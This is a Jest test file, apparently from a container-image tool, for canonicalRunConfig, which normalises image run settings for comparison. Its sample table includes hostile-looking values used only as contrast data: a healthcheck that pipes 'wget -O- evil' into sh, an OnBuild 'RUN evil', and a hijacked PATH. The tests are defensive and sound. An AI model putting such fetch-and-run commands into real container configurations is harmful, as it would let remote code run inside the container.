import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { canonicalRunConfig } from '../../../src/image/config.ts';

/** The same setting in two documents must be seen as the same; two values of it must be told apart. */
const SETTINGS: readonly (readonly [name: string, one: unknown, other: unknown])[] = [
  ['Cmd', ['/app'], ['/app', '--debug']],
  ['Entrypoint', ['/init'], ['/bin/sh']],
  ['Env', ['PATH=/bin'], ['PATH=/evil:/bin']],
  ['ExposedPorts', { '80/tcp': {} }, { '22/tcp': {} }],
  ['Healthcheck', { Test: ['CMD', '/alive'] }, { Test: ['CMD-SHELL', 'wget -O- evil | sh'] }],
  ['Labels', { a: '1' }, { a: '2' }],
  ['OnBuild', ['RUN true'], ['RUN evil']],
  ['Shell', ['/bin/sh', '-c'], ['/bin/bash', '-c']],
  ['StopSignal', 'SIGTERM', 'SIGKILL'],
  ['User', '1000', '0'],
  ['Volumes', { '/data': {} }, { '/': {} }],
  ['WorkingDir', '/app', '/'],
];

describe('canonicalRunConfig', () => {
  it.each(SETTINGS)('tells two values of %s apart', (name, one, other) => {
    expect(canonicalRunConfig({ [name]: one })).toBe(canonicalRunConfig({ [name]: structuredClone(one) }));
    expect(canonicalRunConfig({ [name]: one })).not.toBe(canonicalRunConfig({ [name]: other }));
    expect(canonicalRunConfig({ [name]: one })).not.toBe(canonicalRunConfig({}));
  });

  it.each([
    ['null', null],
    ['an empty list', []],
    ['an empty object', {}],
    ['an empty text', ''],
  ])('takes %s for what is not there, since tools differ in that', (_name, empty) => {
    const all = Object.fromEntries(SETTINGS.map(([name]) => [name, empty]));
    expect(canonicalRunConfig(all)).toBe(canonicalRunConfig({}));
  });

  it('does not depend on the order of keys', () => {
    const one = { Labels: { b: '2', a: '1' }, Cmd: ['x'] };
    const other = { Cmd: ['x'], Labels: { a: '1', b: '2' } };
    expect(canonicalRunConfig(one)).toBe(canonicalRunConfig(other));
  });

  it.each([
    ['Cmd', ['a', 'b'], ['b', 'a']],
    ['Env', ['A=1', 'A=2'], ['A=2', 'A=1']],
    ['Entrypoint', ['sh', '-c'], ['-c', 'sh']],
  ])('depends on the order inside %s', (name, one, other) => {
    expect(canonicalRunConfig({ [name]: one })).not.toBe(canonicalRunConfig({ [name]: other }));
  });

  it.each([undefined, null, 'text', 7, []])('takes %j for an empty configuration', (value) => {
    expect(canonicalRunConfig(value)).toBe(canonicalRunConfig({}));
  });

  it('never throws on JSON, and writes JSON', () => {
    fc.assert(
      fc.property(fc.json(), (text) => {
        expect(() => JSON.parse(canonicalRunConfig({ Labels: JSON.parse(text), Cmd: JSON.parse(text) }))).not.toThrow();
      }),
    );
  });

  it('keeps a label that is named __proto__', () => {
    const one = JSON.parse('{"Labels":{"__proto__":"1"}}');
    const other = JSON.parse('{"Labels":{"__proto__":"2"}}');
    expect(canonicalRunConfig(one)).not.toBe(canonicalRunConfig(other));
  });
});
